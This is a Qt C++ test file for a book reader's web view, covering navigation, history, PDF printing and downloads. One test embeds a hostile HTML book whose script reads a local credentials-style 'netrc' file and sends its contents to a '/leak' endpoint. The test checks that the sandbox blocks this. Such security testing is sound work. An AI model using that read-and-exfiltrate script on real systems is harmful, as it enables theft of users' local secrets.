// The web view against a real HTTP server on 127.0.0.1: navigation and history, the two
// events, printing into a PDF file, saving pages and downloads into a books folder.
#include "core/AppSettings.h"
#include "core/Hosts.h"
#include "mainwindow/frmMain.h"
#include "support/FileBytes.h"
#include "support/HttpTestServer.h"
#include "support/MainWindowDriver.h"
#include "support/TestAppFolder.h"
#include "support/TestMain.h"
#include "views/WebView.h"

#include <QDir>
#include <QFile>
#include <QLabel>
#include <QProcess>
#include <QSignalSpy>
#include <QTemporaryDir>

namespace {
constexpr int LoadTimeout = 30000;

QByteArray pageHtml(const QString& title, const QString& body)
{
    return QStringLiteral("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>%1</title>"
                          "</head><body>%2</body></html>")
        .arg(title, body)
        .toUtf8();
}

// Every entry of a folder, hidden ones included.
QStringList folderEntries(const QString& folder)
{
    return QDir(folder).entryList(
        QDir::Files | QDir::Dirs | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot, QDir::Name);
}

// Records the view's two events in the order they come.
class EventLog
{
public:
    explicit EventLog(WebView& view)
    {
        QObject::connect(&view, &WebView::NavigateComplete2, &m_context,
                         [this](const QString& address) { events << "nav " + address; });
        QObject::connect(&view, &WebView::DownloadComplete, &m_context,
                         [this] { events << QStringLiteral("done"); });
    }
    QStringList events;

private:
    QObject m_context;
};
} // namespace

class TestWebView : public QObject
{
    Q_OBJECT
private:
    QTemporaryDir m_site;
    HttpTestServer m_server;
    QByteArray m_aliceText;

    // A shown view that has loaded one page of the server.
    bool loadPage(WebView& view, const QString& path)
    {
        QSignalSpy done(&view, &WebView::DownloadComplete);
        if (!view.Navigate(m_server.url(path))) {
            return false;
        }
        return done.wait(LoadTimeout) && view.LocationURL() == m_server.url(path);
    }

private slots:
    void initTestCase()
    {
        QVERIFY(m_site.isValid());
        QVERIFY(m_server.start(m_site.path()));
        m_aliceText = "Alice was beginning to get very tired of sitting by her sister on the "
                      "bank.\n";
        QVERIFY(m_server.addFile(QStringLiteral("alice.txt"), m_aliceText));
        QVERIFY(m_server.addFile(
            QStringLiteral("one.html"),
            pageHtml(QStringLiteral("First Page"),
                     QStringLiteral("<p>Ellery Marsh kept the light at Gull Point.</p>"
                                    "<a id=\"alice\" href=\"alice.txt\" download>Alice</a> "
                                    "<a id=\"broken\" href=\"/interrupt/big.rtf\">Big</a> "
                                    "<a href=\"two.html\">Next</a> "
                                    "<a id=\"jump\" href=\"#end\">End</a><p id=\"end\">End</p>"))));
        QVERIFY(m_server.addFile(QStringLiteral("two.html"),
                                 pageHtml(QStringLiteral("Second Page"), QStringLiteral("two"))));
        QVERIFY(m_server.addFile(QStringLiteral("home.html"),
                                 pageHtml(QStringLiteral("Home Page"), QStringLiteral("home"))));
        // Large enough that half of it is many network packets.
        QByteArray rtf = "{\\rtf1\\ansi ";
        while (rtf.size() < 400000) {
            rtf += "The quick brown fox jumps over the lazy dog. ";
        }
        rtf += "}";
        QVERIFY(m_server.addFile(QStringLiteral("big.rtf"), rtf));
    }

    void init() { FileDialog::setTestMode(true); }

    // Building the main window must not start the web engine: that costs seconds.
    void mainWindowLeavesTheEngineStopped()
    {
        TestAppFolder app;
        frmMain window(app.path());
        QVERIFY(!window.wbBook->engineStarted());
        QVERIFY(!window.wbBook->findChild<QWidget*>(QStringLiteral("webEngineView")));
        // Asking a view that never loaded anything starts nothing either.
        QVERIFY(!window.wbBook->GoBack());
        QVERIFY(!window.wbBook->GoForward());
        QCOMPARE(window.wbBook->LocationURL(), QString());
        QVERIFY(!(window.wbBook->QueryStatusWB(WebView::CommandPrint) & WebView::StatusEnabled));
        QVERIFY(!window.wbBook->engineStarted());
    }

    void navigationReportsTitleAddressAndEventsInOrder()
    {
        WebView view;
        view.resize(800, 600);
        view.show();
        EventLog log(view);
        const QString first = m_server.url(QStringLiteral("/one.html"));
        QVERIFY(view.Navigate(first));
        QVERIFY(view.engineStarted());
        // The request returns before the page is there.
        QVERIFY(view.Busy());
        QTRY_COMPARE_WITH_TIMEOUT(log.events, QStringList({"nav " + first, "done"}), LoadTimeout);
        QVERIFY(!view.Busy());
        QCOMPARE(view.LocationName(), QStringLiteral("First Page"));
        QCOMPARE(view.LocationURL(), first);
        QVERIFY(!m_server.waitForRequest(QStringLiteral("/one.html")).isEmpty());

        // A move within the page is a navigation too, reported once.
        log.events.clear();
        view.runJavaScript(QStringLiteral("document.getElementById('jump').click();"));
        QTRY_VERIFY_WITH_TIMEOUT(log.events.contains("nav " + first + "#end"), LoadTimeout);
        QTest::qWait(300);
        QCOMPARE(log.events.count("nav " + first + "#end"), 1);
        QCOMPARE(view.LocationURL(), first + "#end");
    }

    void historyFailsAtEitherEnd()
    {
        WebView view;
        view.resize(800, 600);
        view.show();
        QVERIFY(loadPage(view, QStringLiteral("/one.html")));
        QVERIFY(!view.GoBack());
        QVERIFY(!view.GoForward());
        QVERIFY(loadPage(view, QStringLiteral("/two.html")));
        QVERIFY(!view.GoForward());

        QSignalSpy navigated(&view, &WebView::NavigateComplete2);
        QVERIFY(view.GoBack());
        QTRY_COMPARE_WITH_TIMEOUT(navigated.count(), 1, LoadTimeout);
        QCOMPARE(navigated.at(0).at(0).toString(), m_server.url(QStringLiteral("/one.html")));
        QCOMPARE(view.LocationName(), QStringLiteral("First Page"));
        QVERIFY(!view.GoBack());

        QVERIFY(view.GoForward());
        QTRY_COMPARE_WITH_TIMEOUT(navigated.count(), 2, LoadTimeout);
        QCOMPARE(view.LocationURL(), m_server.url(QStringLiteral("/two.html")));
        QVERIFY(!view.GoForward());
    }

    void localPathBecomesAFileAddress()
    {
        TestAppFolder app;
        const QString path = app.addBook(QStringLiteral("My Book.htm"),
                                         pageHtml(QStringLiteral("Local Book"), "local"));
        WebView view;
        view.show();
        QSignalSpy navigated(&view, &WebView::NavigateComplete2);
        QVERIFY(view.Navigate(path));
        QTRY_COMPARE_WITH_TIMEOUT(navigated.count(), 1, LoadTimeout);
        const QString address = navigated.at(0).at(0).toString();
        QCOMPARE(QUrl(address), QUrl::fromLocalFile(path));
        QVERIFY(address.endsWith(QStringLiteral("My Book.htm")));
        QCOMPARE(view.LocationName(), QStringLiteral("Local Book"));
    }

    // An HTML book in the library shows its own folder's style sheet; its script can neither
    // run nor read a file of the computer and send it away, and no frame shows such a file.
    void anHtmlBookReadsNothingOutsideItsFolder()
    {
        TestAppFolder app;
        QTemporaryDir outside;
        const QString secret = outside.filePath(QStringLiteral("netrc"));
        {
            QFile file(secret);
            QVERIFY(file.open(QIODevice::WriteOnly));
            file.write("machine mail login reader password hunter2");
        }
        const QString secretUrl = QUrl::fromLocalFile(secret).toString();
        const QString server = m_server.url(QString());
        app.addBook(QStringLiteral("style.css"),
                    "body::before { content: \"Styled from the book folder\"; }");
        const QString script =
            QStringLiteral("<script>"
                           "new Image().src = '%1/script-ran';"
                           "fetch('%2').then(r => r.text()).then(t => {"
                           "  new Image().src = '%1/leak?' + encodeURIComponent(t); });"
                           "var x = new XMLHttpRequest(); x.open('GET', '%2', false);"
                           "try { x.send(); new Image().src = '%1/leak?' + x.responseText; }"
                           "catch (e) {}"
                           "document.title = 'Script ran';"
                           "</script>")
                .arg(server, secretUrl);
        const QString path = app.addBook(
            QStringLiteral("Hostile.htm"),
            pageHtml(QStringLiteral("Hostile Book"),
                     QStringLiteral("<link rel=\"stylesheet\" href=\"style.css\">"
                                    "<p>The book's own text.</p>"
                                    "<iframe src=\"%1\" width=\"600\" height=\"100\"></iframe>%2")
                         .arg(secretUrl, script)));
        m_server.clearRequests();
        // Opened from the library, as the reader opens it.
        frmMain window(app.path());
        QSignalSpy done(window.wbBook, &WebView::DownloadComplete);
        QVERIFY(Driver::clickNode(window, QStringLiteral("Hostile.htm")));
        QVERIFY(done.wait(LoadTimeout));
        QTest::qWait(1000);
        QCOMPARE(window.wbBook->LocationName(), QStringLiteral("Hostile Book"));
        const QStringList targets = m_server.requestTargets();
        QVERIFY2(targets.filter(QStringLiteral("/leak")).isEmpty(), qPrintable(targets.join(' ')));
        QVERIFY2(targets.filter(QStringLiteral("/script-ran")).isEmpty(),
                 qPrintable(targets.join(' ')));

        // What the page shows, printed: the folder's style sheet applies, the secret is absent.
        QTemporaryDir out;
        const QString pdf = out.filePath(QStringLiteral("printed.pdf"));
        WebView::setNextPrintFile(pdf);
        QSignalSpy printed(window.wbBook, &WebView::printFinished);
        window.PrintBook();
        QVERIFY(printed.wait(LoadTimeout));
        QProcess pdftotext;
        pdftotext.start(QStringLiteral("pdftotext"), {pdf, QStringLiteral("-")});
        QVERIFY(pdftotext.waitForFinished(30000));
        const QByteArray text = pdftotext.readAllStandardOutput();
        QVERIFY2(text.contains("The book's own text."), text.constData());
        QVERIFY2(text.contains("Styled from the book folder"), text.constData());
        QVERIFY2(!text.contains("hunter2"), text.constData());

        // A page from the web keeps its scripts.
        WebView view;
        view.resize(800, 600);
        view.show();
        m_server.clearRequests();
        QVERIFY(m_server.addFile(
            QStringLiteral("scripted.html"),
            pageHtml(QStringLiteral("Scripted"), QStringLiteral("<script>new Image().src = "
                                                                "'/web-script-ran';</script>"))));
        QVERIFY(loadPage(view, QStringLiteral("/scripted.html")));
        QCOMPARE(m_server.waitForRequest(QStringLiteral("/web-script-ran")),
                 QStringLiteral("/web-script-ran"));
    }

    void homeComesFromTheHostsSettings()
    {
        {
            auto settings = AppSettings::open();
            settings->setValue(QStringLiteral("Hosts/Home"),
                               m_server.url(QStringLiteral("/home.html")));
        }
        WebView view;
        view.show();
        QSignalSpy navigated(&view, &WebView::NavigateComplete2);
        view.GoHome();
        QTRY_COMPARE_WITH_TIMEOUT(navigated.count(), 1, LoadTimeout);
        QCOMPARE(view.LocationName(), QStringLiteral("Home Page"));
        AppSettings::open()->remove(QStringLiteral("Hosts/Home"));
    }

    void unreachableServerStillEndsTheLoad()
    {
        WebView view;
        view.show();
        QSignalSpy done(&view, &WebView::DownloadComplete);
        // Port 1 on the local machine: nobody listens, the load fails at once.
        QVERIFY(view.Navigate(QStringLiteral("http://127.0.0.1:1/nothing.html")));
        QVERIFY(done.wait(LoadTimeout));
        QVERIFY(!view.Busy());
    }

    // A page the server sends with an error status is still a page that arrived.
    void serverErrorPageIsReached()
    {
        WebView view;
        view.show();
        EventLog log(view);
        const QString missing = m_server.url(QStringLiteral("/no-such-book.html"));
        QVERIFY(view.Navigate(missing));
        QTRY_COMPARE_WITH_TIMEOUT(log.events, QStringList({"nav " + missing, "done"}), LoadTimeout);
        QCOMPARE(view.LocationName(), QStringLiteral("Not Found"));
    }

    void stopEndsASlowLoad()
    {
        WebView view;
        view.show();
        QSignalSpy done(&view, &WebView::DownloadComplete);
        QVERIFY(view.Navigate(m_server.url(QStringLiteral("/slow/two.html"))));
        QVERIFY(!m_server.waitForRequest(QStringLiteral("/slow/two.html")).isEmpty());
        QVERIFY(view.Busy());
        view.Stop();
        QTRY_COMPARE_WITH_TIMEOUT(done.count(), 1, 5000);
        QVERIFY(!view.Busy());
    }

    void printsThePageIntoAPdfFile()
    {
        WebView view;
        view.resize(800, 600);
        view.show();
        QCOMPARE(view.QueryStatusWB(WebView::CommandPrint) & WebView::StatusEnabled, 0);
        QVERIFY(!view.ExecWB(WebView::CommandPrint, WebView::PromptUser));
        QVERIFY(loadPage(view, QStringLiteral("/one.html")));
        QCOMPARE(view.QueryStatusWB(WebView::CommandPrint) & WebView::StatusEnabled,
                 int(WebView::StatusEnabled));

        QTemporaryDir out;
        const QString pdf = out.filePath(QStringLiteral("printed.pdf"));
        WebView::setNextPrintFile(pdf);
        QSignalSpy printed(&view, &WebView::printFinished);
        QVERIFY(view.ExecWB(WebView::CommandPrint, WebView::PromptUser));
        QVERIFY(printed.wait(LoadTimeout));
        QCOMPARE(printed.at(0).at(0).toBool(), true);

        QProcess pdftotext;
        pdftotext.start(QStringLiteral("pdftotext"), {pdf, QStringLiteral("-")});
        QVERIFY(pdftotext.waitForFinished(30000));
        QCOMPARE(pdftotext.exitCode(), 0);
        QVERIFY2(pdftotext.readAllStandardOutput().contains("Ellery Marsh kept the light"),
                 "the printed PDF does not hold the page's text");
    }

    void saveAsWritesTheShownResource_data()
    {
        QTest::addColumn<QString>("page");
        QTest::addColumn<QString>("proposed");
        QTest::addColumn<QString>("chosen");
        QTest::newRow("web page") << "/one.html"
                                  << "one.html"
                                  << "First.htm";
        QTest::newRow("text book") << "/alice.txt"
                                   << "alice.txt"
                                   << "alice.txt";
    }

    void saveAsWritesTheShownResource()
    {
        QFETCH(QString, page);
        QFETCH(QString, proposed);
        QFETCH(QString, chosen);
        TestAppFolder app;
        WebView view;
        view.setSaveFolder(app.booksPath());
        view.show();
        QVERIFY(loadPage(view, page));
        m_server.clearRequests();

        const QString target = app.booksPath() + chosen;
        FileDialog::setNextFileName(target);
        QSignalSpy finished(&view, &WebView::downloadFinished);
        QVERIFY(view.ExecWB(WebView::CommandSaveAs, WebView::PromptUser));
        // The user is asked once the download says what the page is.
        QVERIFY(finished.wait(LoadTimeout));
        QCOMPARE(QDir::cleanPath(FileDialog::lastProposedPath()),
                 QDir::cleanPath(app.booksPath() + proposed));
        QCOMPARE(finished.at(0).at(0).toBool(), true);
        QCOMPARE(finished.at(0).at(1).toString(), target);
        QCOMPARE(fileBytes(target), fileBytes(m_site.filePath(page.mid(1))));
        QCOMPARE(folderEntries(app.booksPath()), QStringList{chosen});
    }

    void saveAsCopiesALocalBook()
    {
        TestAppFolder app;
        const QByteArray html = pageHtml(QStringLiteral("Local Book"), "a local book");
        const QString source = app.addBook(QStringLiteral("local.htm"), html);
        WebView view;
        view.setSaveFolder(app.booksPath());
        view.show();
        QSignalSpy done(&view, &WebView::DownloadComplete);
        QVERIFY(view.Navigate(source));
        QVERIFY(done.wait(LoadTimeout));

        const QString target = app.booksPath() + QStringLiteral("copy.htm");
        FileDialog::setNextFileName(target);
        QSignalSpy finished(&view, &WebView::downloadFinished);
        QVERIFY(view.ExecWB(WebView::CommandSaveAs, WebView::PromptUser));
        QVERIFY(finished.wait(LoadTimeout));
        QCOMPARE(QDir::cleanPath(FileDialog::lastProposedPath()), QDir::cleanPath(source));
        QCOMPARE(finished.at(0).at(0).toBool(), true);
        QCOMPARE(fileBytes(target), html);
        QCOMPARE(folderEntries(app.booksPath()), QStringList({"copy.htm", "local.htm"}));
    }

    void saveAsCancelledWritesNothing()
    {
        TestAppFolder app;
        WebView view;
        view.setSaveFolder(app.booksPath());
        view.show();
        QVERIFY(loadPage(view, QStringLiteral("/alice.txt")));
        FileDialog::setNextFileName(QString());
        QSignalSpy finished(&view, &WebView::downloadFinished);
        QVERIFY(view.ExecWB(WebView::CommandSaveAs, WebView::PromptUser));
        QTRY_VERIFY_WITH_TIMEOUT(!FileDialog::lastProposedPath().isEmpty(), LoadTimeout);
        QCOMPARE(view.activeDownloads(), 0);
        QVERIFY(finished.isEmpty());
        QVERIFY(folderEntries(app.booksPath()).isEmpty());
    }

    // A link saved from the page replaces a book of the same name only once it is complete,
    // and the view tells how the download ended.
    void linkedFileIsSavedIntoTheBooksFolder()
    {
        TestAppFolder app;
        const QString target = app.addBook(QStringLiteral("alice.txt"), "an older copy");
        WebView view;
        view.setSaveFolder(app.booksPath());
        view.show();
        QVERIFY(loadPage(view, QStringLiteral("/one.html")));

        FileDialog::setNextFileName(target);
        QSignalSpy finished(&view, &WebView::downloadFinished);
        view.runJavaScript(QStringLiteral("document.getElementById('alice').click();"));
        QVERIFY(finished.wait(LoadTimeout));
        QCOMPARE(QDir::cleanPath(FileDialog::lastProposedPath()),
                 QDir::cleanPath(app.booksPath() + QStringLiteral("alice.txt")));
        QCOMPARE(finished.at(0).at(0).toBool(), true);
        QCOMPARE(fileBytes(target), m_aliceText);
        QCOMPARE(folderEntries(app.booksPath()), QStringList{"alice.txt"});
        QCOMPARE(view.activeDownloads(), 0);
        auto* status = view.findChild<QLabel*>(QStringLiteral("downloadStatus"));
        QVERIFY(status);
        QVERIFY(status->isVisible());
        QVERIFY(status->text().contains(QStringLiteral("alice.txt")));
    }

    void linkDownloadCancelledInTheDialogWritesNothing()
    {
        TestAppFolder app;
        WebView view;
        view.setSaveFolder(app.booksPath());
        view.show();
        QVERIFY(loadPage(view, QStringLiteral("/one.html")));
        m_server.clearRequests();
        FileDialog::setNextFileName(QString());
        QSignalSpy finished(&view, &WebView::downloadFinished);
        view.runJavaScript(QStringLiteral("document.getElementById('alice').click();"));
        QTRY_COMPARE_WITH_TIMEOUT(FileDialog::lastProposedPath().isEmpty(), false, LoadTimeout);
        QTest::qWait(500);
        QCOMPARE(finished.count(), 0);
        QVERIFY(folderEntries(app.booksPath()).isEmpty());
    }

    void interruptedDownloadLeavesNoFile_data()
    {
        QTest::addColumn<QByteArray>("existing");
        QTest::newRow("new book") << QByteArray();
        QTest::newRow("over an older copy") << QByteArray("{\\rtf1 an older copy}");
    }

    void interruptedDownloadLeavesNoFile()
    {
        QFETCH(QByteArray, existing);
        TestAppFolder app;
        const QString target = app.booksPath() + QStringLiteral("big.rtf");
        if (!existing.isEmpty()) {
            app.addBook(QStringLiteral("big.rtf"), existing);
        }
        WebView view;
        view.setSaveFolder(app.booksPath());
        view.show();
        QVERIFY(loadPage(view, QStringLiteral("/one.html")));

        FileDialog::setNextFileName(target);
        QSignalSpy finished(&view, &WebView::downloadFinished);
        view.runJavaScript(QStringLiteral("document.getElementById('broken').click();"));
        QVERIFY(!m_server.waitForRequest(QStringLiteral("/interrupt/big.rtf")).isEmpty());
        QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 120000);
        QCOMPARE(finished.at(0).at(0).toBool(), false);
        QVERIFY(!finished.at(0).at(2).toString().isEmpty());
        QTest::qWait(500); // nothing may appear late either
        if (existing.isEmpty()) {
            QVERIFY(folderEntries(app.booksPath()).isEmpty());
        } else {
            QCOMPARE(folderEntries(app.booksPath()), QStringList{"big.rtf"});
            QCOMPARE(fileBytes(target), existing);
        }
    }
};

QUILLMERE_TEST_MAIN(TestWebView)
#include "tst_web_view.moc"
